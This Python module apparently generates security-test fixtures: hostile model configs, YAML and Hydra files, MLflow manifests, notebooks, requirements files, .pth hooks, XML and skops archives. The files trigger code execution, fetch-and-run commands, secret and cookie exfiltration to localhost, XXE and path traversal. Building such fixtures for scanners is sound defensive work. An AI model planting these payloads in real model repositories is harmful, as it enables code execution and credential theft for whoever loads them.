"""Configurations and texts beside a model that make its loader run, fetch or read what it should not."""

from __future__ import annotations

import base64
import json

from . import zips
from .assembler import EVIL
from .writer import Writer

SHELL = "__import__('os').system('true')"


def cases(add: Writer) -> None:
    """JSON of the Hugging Face world, YAML, MLflow, notebooks, package lists and start-up hooks."""
    for name, value in _hub().items():
        add("format", name, json.dumps(value, indent=2))
    for name, data in (_yaml() | _mlflow() | _notebooks() | _packages() | _hooks() | _markup() | _skops()).items():
        add("format", name, data)


def _hub() -> dict[str, object]:
    bert = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768}
    return {
        "hub/auto_map/config.json": bert
        | {"auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}},
        "hub/auto_map_other_repository/config.json": bert
        | {"auto_map": {"AutoModel": "author/other--modeling_x.XModel"}},
        "hub/auto_map_list/tokenizer_config.json": {
            "tokenizer_class": "X",
            "auto_map": {"AutoTokenizer": ["tokenization_x.X", None]},
        },
        "hub/auto_map_processor/preprocessor_config.json": {
            "auto_map": {"AutoProcessor": "processing_x.X"},
            "image_processor_type": "X",
        },
        "hub/auto_map_nested/config.json": {
            "model_type": "composite",
            "text_config": bert | {"auto_map": {"AutoModel": "modeling_x.X"}},
        },
        "hub/custom_pipelines/config.json": bert
        | {"custom_pipelines": {"text-classification": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}},
        "hub/quantization/config.json": bert
        | {"quantization_config": {"quant_method": "x", "modules_to_import": ["os"], "auto_map": {"Q": "quant.Q"}}},
        "hub/adapter/adapter_config.json": {
            "peft_type": "LORA",
            "auto_mapping": {"base_model_class": "Net", "parent_library": "author_code"},
            "base_model_name_or_path": None,
        },
        "hub/adapter_os/adapter_config.json": {
            "peft_type": "LORA",
            "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
        },
        "hub/sentence/modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}],
        "hub/sentence_os/modules.json": [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "x", "type": "os.system"},
        ],
        "hub/sentence_repository/modules.json": [
            {"idx": 0, "name": "0", "path": "", "type": "author/repo--custom.Transformer"}
        ],
        "hub/cross_encoder/config.json": bert | {"sentence_transformers": {"activation_fn": "subprocess.getoutput"}},
        "hub/diffusers/model_index.json": {
            "_class_name": ["pipeline", "MyPipeline"],
            "_diffusers_version": "0.30.0",
            "unet": ["my_unet", "Unet"],
        },
        "hub/diffusers_component/model_index.json": {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "unet": ["unet_code", "Unet"],
            "vae": ["diffusers", "AutoencoderKL"],
        },
        "hub/diffusers_module/model_index.json": {
            "_class_name": "StableDiffusionPipeline",
            "scheduler": ["os", "system"],
        },
        "hub/path/config.json": bert
        | {"vocab_file": "../../../../etc/passwd", "auto_map": {"AutoTokenizer": "../../evil.X"}},
        "hub/callable/config.json": bert | {"_target_": "subprocess.run", "args": [["true"]]},
        "hub/template/tokenizer_config.json": {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
        "hub/pickle_text/config.json": bert | {"state": base64.b64encode(EVIL).decode()},
    }


def _yaml() -> dict[str, str]:
    return {
        "yaml/apply.yaml": "a: !!python/object/apply:os.system ['true']\n",
        "yaml/new.yaml": "a: !!python/object/new:os.system ['true']\n",
        "yaml/new_state.yaml": '!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: "import os"\n',
        "yaml/object.yaml": "a: !!python/object:author.Thing {x: 1}\n",
        "yaml/name.yaml": "a: !!python/name:os.system\n",
        "yaml/module.yaml": "a: !!python/module:os\n",
        "yaml/verbatim.yaml": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "yaml/handle.yaml": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n",
        "yaml/handle_primary.yaml": "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['true']\n",
        "yaml/escaped_tag.yaml": "a: !!python/object%2Fapply:os.system ['true']\n",
        "yaml/second_document.yaml": "a: 1\n---\nb: 2\n---\n!!python/object/apply:os.system ['true']\n",
        "yaml/as_key.yaml": "? !!python/object/apply:os.system ['true']\n: x\n",
        "yaml/flow.yaml": "{a: [1, {b: !!python/object/apply:os.system ['true']}]}\n",
        "yaml/anchor.yaml": "a: &x !!python/object/apply:os.system ['true']\nb: *x\n",
        "yaml/multiline.yaml": "a:\n  !!python/object/apply:subprocess.Popen\n  - ['true']\n",
        "yaml/laughs.yaml": "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)),
        "yaml/java.yaml": 'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1/"]]]]\n',
        "yaml/no_extension": "model: x\nloader: !!python/object/apply:os.system ['true']\n",
        "yaml/utf16.yaml": "a: !!python/object/apply:os.system ['true']\n".encode("utf-16"),
        "hydra/system.yaml": "model:\n  _target_: os.system\n  command: 'true'\n",
        "hydra/nested.yaml": 'model:\n  _target_: torch.nn.Sequential\n  _args_:\n    - _target_: builtins.exec\n      _args_: ["import os"]\n',
        "hydra/quoted.yaml": "model:\n  \"_target_\": 'subprocess.Popen'\n  args: ['true']\n",
        "hydra/flow.yaml": "model: {_target_: builtins.eval, _args_: ['1']}\n",
        "hydra/get_method.yaml": "loss:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "hydra/hub.yaml": "model:\n  _target_: torch.hub.load\n  repo_or_dir: author/repo\n  model: x\n",
        "hydra/partial.yaml": "hook:\n  _target_: os.system\n  _partial_: true\n",
        "hydra/load.yaml": "data:\n  _target_: pickle.loads\n  _args_: [x]\n",
        "hydra/resolver.yaml": "name: ${oc.env:AWS_SECRET_ACCESS_KEY}\nupload:\n  _target_: urllib.request.urlopen\n  url: http://127.0.0.1/${name}\n",
        "hydra/json.json": json.dumps({"model": {"_target_": "os.system", "command": "true"}}),
        "hydra/class_path.yaml": "model:\n  class_path: os.system\n  init_args:\n    command: 'true'\n",
    }


def _mlflow() -> dict[str, str]:
    head = "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    python_version: 3.11.0\n"
    return {
        "mlflow/loader/MLmodel": head + "    loader_module: os\n",
        "mlflow/loader_custom/MLmodel": head + "    code: code\n    loader_module: evil_loader\n    data: data\n",
        "mlflow/path/MLmodel": head + "    loader_module: mlflow.sklearn\n    model_path: ../../../../etc/passwd\n",
        "mlflow/path_absolute/MLmodel": head + "    loader_module: mlflow.pytorch\n    data: /root/.ssh\n",
        "mlflow/model_code/MLmodel": head + "    loader_module: mlflow.pyfunc.model\n    model_code_path: ../evil.py\n",
        "mlflow/project/MLproject": 'name: x\nentry_points:\n  main:\n    command: "curl http://127.0.0.1/x | sh"\n',
        "mlflow/environment/conda.yaml": "name: x\ndependencies:\n- pip:\n  - --extra-index-url http://127.0.0.1/simple\n  - evil\n",
    }


def _notebooks() -> dict[str, str]:
    encoded = base64.b64encode(b"true").decode()

    def notebook(source: str | list[str], kind: str = "code", outputs: object = None, metadata: object = None) -> str:
        cell = {"cell_type": kind, "metadata": {}, "source": source} | (
            {"execution_count": None, "outputs": outputs or []} if kind == "code" else {}
        )
        return json.dumps({"cells": [cell], "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5})

    return {
        "notebook/shell_pipe.ipynb": notebook(f"!echo {encoded} | base64 -d | sh"),
        "notebook/shell_fetch.ipynb": notebook("!curl -s http://127.0.0.1:9/x | bash"),
        "notebook/bash_magic.ipynb": notebook(["%%bash\n", "curl -s http://127.0.0.1:9/x | sh\n"]),
        "notebook/eval.ipynb": notebook(f"import base64\nexec(base64.b64decode('{encoded}'))"),
        "notebook/pickle.ipynb": notebook(
            f"import pickle, base64\npickle.loads(base64.b64decode('{base64.b64encode(EVIL).decode()}'))"
        ),
        "notebook/output_script.ipynb": notebook(
            "1",
            outputs=[
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"},
                }
            ],
        ),
        "notebook/output_javascript.ipynb": notebook(
            "1",
            outputs=[
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {
                        "application/javascript": "Jupyter.notebook.kernel.execute('import os; os.system(\"true\")')"
                    },
                }
            ],
        ),
        "notebook/markdown_script.ipynb": notebook(
            '<img src=x onerror="Jupyter.notebook.execute_all_cells()">', "markdown"
        ),
        "notebook/index.ipynb": notebook("%pip install --index-url http://127.0.0.1:9/simple evil"),
    }


def _packages() -> dict[str, str]:
    return {
        "requirements/index/requirements.txt": "--index-url http://127.0.0.1/simple\nnumpy\n",
        "requirements/extra_index/requirements.txt": "numpy\n--extra-index-url=http://127.0.0.1/simple\ninternal-package\n",
        "requirements/short_index/requirements.txt": "-i http://127.0.0.1/simple\nnumpy\n",
        "requirements/direct/requirements.txt": "numpy==2.0\nevil @ http://127.0.0.1/evil-1.0.tar.gz\n",
        "requirements/url/requirements.txt": "http://127.0.0.1/evil-1.0-py3-none-any.whl\n",
        "requirements/git/requirements.txt": "git+http://127.0.0.1/author/evil.git#egg=evil\n",
        "requirements/editable/requirements.txt": "-e git+http://127.0.0.1/author/evil.git#egg=evil\n",
        "requirements/trusted/requirements.txt": "--trusted-host 127.0.0.1\n--find-links http://127.0.0.1/\nevil\n",
        "requirements/include/requirements.txt": "-r http://127.0.0.1/more.txt\n",
        "requirements/continued/requirements.txt": "--extra-\\\nindex-url http://127.0.0.1/simple\nnumpy\n",
    }


def _hooks() -> dict[str, str]:
    return {
        "hook/import.pth": "import os; os.system('true')\n",
        "hook/import_tab.pth": "import\tos; os.system('true')\n",
        "hook/second_line.pth": "/usr/lib/x\nimport os; os.system('true')\n",
        "hook/exec.pth": f"import base64; exec(base64.b64decode('{base64.b64encode(SHELL.encode()).decode()}'))\n",
        "hook/module.pth": "import evil_startup\n",
        "hook/crlf.pth": "# x\r\nimport os;os.system('true')\r\n",
        "hook/mark.pth": "\ufeffimport os; os.system('true')\n",
    }


def _markup() -> dict[str, str]:
    def pmml(head: str, body: str = "") -> str:
        return f'<?xml version="1.0"?>\n{head}\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{body}<DataDictionary/></PMML>\n'

    layer = '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="{type}" version="{version}"{more}><output/></layer></layers><edges/></net>\n'
    return {
        "pmml/entity.pmml": pmml(
            '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "<Extension>&x;</Extension>"
        ),
        "pmml/external.pmml": pmml('<!DOCTYPE PMML SYSTEM "http://127.0.0.1/evil.dtd">'),
        "pmml/parameter.pmml": pmml('<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://127.0.0.1/x">%p;]>'),
        "pmml/laughs.pmml": pmml(
            "<!DOCTYPE PMML [<!ENTITY a0 'x'>"
            + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 10))
            + "]>",
            "<Extension>&a9;</Extension>",
        ),
        "pmml/include.pmml": pmml(
            "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
        "pmml/utf16.pmml": pmml('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
        .replace("?>", ' encoding="UTF-16"?>', 1)
        .encode("utf-16"),
        "openvino/extension.xml": layer.format(type="EvilOp", version="extension", more=' library="./libevil.so"'),
        "openvino/custom.xml": layer.format(type="Shell", version="custom_author", more=""),
        "openvino/entity.xml": '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        + layer.format(type="Parameter", version="opset1", more=""),
        "openvino/kernels.xml": '<CustomLayer name="x" type="SimpleGPU" version="1"><Kernel entry="k"><Source filename="../../evil.cl"/></Kernel></CustomLayer>\n',
        "openvino/bounds.xml": '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="c" type="Const" version="opset1"><data element_type="f32" shape="4" offset="18446744073709551600" size="18446744073709551615"/></layer></layers></net>\n',
        "picture/script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://127.0.0.1:9/")</script></svg>\n',
    }


def _skops() -> dict[str, bytes]:
    def skops(node: dict[str, object], more: dict[str, bytes] | None = None) -> bytes:
        schema = {"protocol": 2, "_skops_version": "0.14.0"} | node
        return zips.plain({"schema.json": json.dumps(schema).encode()} | (more or {}))

    def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}

    text = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": '"true"',
        "is_json": True,
        "__id__": 2,
    }
    arguments = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [text],
        "__id__": 3,
    }
    return {
        "skops/function.skops": skops(
            node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"})
        ),
        "skops/operator.skops": skops(node("OperatorFuncNode", "operator", "methodcaller", attrs=arguments)),
        "skops/operator_lie.skops": skops(node("OperatorFuncNode", "builtins", "eval", attrs=arguments)),
        "skops/method.skops": skops(
            node("MethodNode", "builtins", "method", content={"func": "system", "obj": node("ModuleNode", "os", "os")})
        ),
        "skops/object.skops": skops(node("ObjectNode", "author.code", "Thing", content=arguments)),
        "skops/object_popen.skops": skops(node("ObjectNode", "subprocess", "Popen", content=arguments)),
        "skops/type.skops": skops(node("TypeNode", "os", "system")),
        "skops/partial.skops": skops(
            node(
                "PartialNode",
                "functools",
                "partial",
                content={
                    "func": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}),
                    "args": arguments,
                    "kwds": None,
                    "namespace": None,
                },
            )
        ),
        "skops/reduce.skops": skops(node("ReduceNode", "os", "system", reduce={"args": arguments})),
        "skops/lie.skops": skops(node("DictNode", "os", "system", content=arguments)),
        "skops/numpy_pickle.skops": skops(
            node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy"),
            {
                "1.npy": b"\x93NUMPY\x01\x00\x3a\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n".ljust(
                    68
                )
                + EVIL
            },
        ),
        "skops/path.skops": skops(node("NdArrayNode", "numpy", "ndarray", type="numpy", file="../../etc/passwd")),
    }
